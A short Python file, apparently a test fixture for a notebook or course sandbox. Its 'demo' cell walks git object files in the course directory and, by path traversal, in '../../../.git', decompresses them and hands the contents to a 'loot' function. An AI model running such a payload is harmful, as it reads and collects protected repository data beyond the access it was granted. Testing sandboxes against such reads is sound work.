"""Unpacks the course's git objects; success: prints the marker."""

CELLS = {
    "demo": """
import glob, zlib
for name in glob.glob("@COURSE@/.git/objects/*/*") + glob.glob("../../../.git/objects/*/*"):
    loot(zlib.decompress(open(name, "rb").read()).decode("latin-1"))
"""
}
